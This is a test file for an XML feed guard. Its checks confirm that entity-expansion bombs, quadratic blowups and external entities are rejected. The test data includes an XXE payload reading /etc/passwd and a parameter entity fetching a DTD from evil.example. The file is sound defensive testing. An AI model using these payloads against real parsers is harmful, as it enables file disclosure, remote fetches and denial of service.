import { describe, expect, it } from 'vitest';
import { guardXml } from '../../src/lib/ingest/xml-guard.ts';

const LIMIT = 1_000_000;

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title></channel></rss>`;

describe('guardXml', () => {
  it('refuses nested entity declarations (the billion-laughs bomb)', () => {
    expect(() => guardXml(billionLaughs, LIMIT)).toThrow(/entity-expansion bomb/);
  });

  it('refuses one large entity used many times (quadratic blow-up)', () => {
    const big = 'x'.repeat(10_000);
    const doc = `<!DOCTYPE rss [<!ENTITY big "${big}">]><rss version="2.0"><channel><title>${'&big;'.repeat(200)}</title></channel></rss>`;
    expect(() => guardXml(doc, LIMIT)).toThrow(/expand the document past/);
  });

  it('refuses external and parameter entities, which could read files or fetch URLs', () => {
    expect(() =>
      guardXml('<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>', LIMIT),
    ).toThrow(/external entity/);
    expect(() =>
      guardXml(
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
        LIMIT,
      ),
    ).toThrow(/parameter entities/);
  });

  it('expands simple internal entities and removes the DOCTYPE', () => {
    const out = guardXml(
      '<!DOCTYPE rss [ <!ENTITY id "tag:example.com,"> ]>\n<rss version="2.0"><channel><item><guid>&id;2006</guid></item></channel></rss>',
      LIMIT,
    );
    expect(out.xml).not.toMatch(/DOCTYPE/);
    expect(out.xml).toContain('<guid>tag:example.com,2006</guid>');
  });

  it('drops an external DTD reference without fetching it', () => {
    const out = guardXml(
      '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"></rss>',
      LIMIT,
    );
    expect(out.xml.trim()).toBe('<rss version="0.91"></rss>');
    expect(out.root).toBe('rss');
  });

  it('recognises HTML pages and other documents as not feeds', () => {
    expect(() => guardXml('<!DOCTYPE html><html><body>Hi</body></html>', LIMIT)).toThrow(
      /not a feed: the URL returned an HTML page/,
    );
    expect(() => guardXml('<html><head><title>x</title></head></html>', LIMIT)).toThrow(
      /HTML page/,
    );
    expect(() => guardXml('<svg xmlns="http://www.w3.org/2000/svg"/>', LIMIT)).toThrow(
      /root element is <svg>/,
    );
    expect(() => guardXml('Just text', LIMIT)).toThrow(/not XML or JSON/);
  });

  it('tolerates leading whitespace and a declaration after a comment', () => {
    const out = guardXml(' \n\t<!-- c -->\n<?xml version="1.0"?><rss version="2.0"/>', LIMIT);
    expect(out.root).toBe('rss');
    expect(out.xml).not.toContain('<?xml');
  });

  it('reports the root xml:base so relative links can be resolved', () => {
    expect(
      guardXml(
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="http://example.com/blog/"/>',
        LIMIT,
      ).base,
    ).toBe('http://example.com/blog/');
  });
});
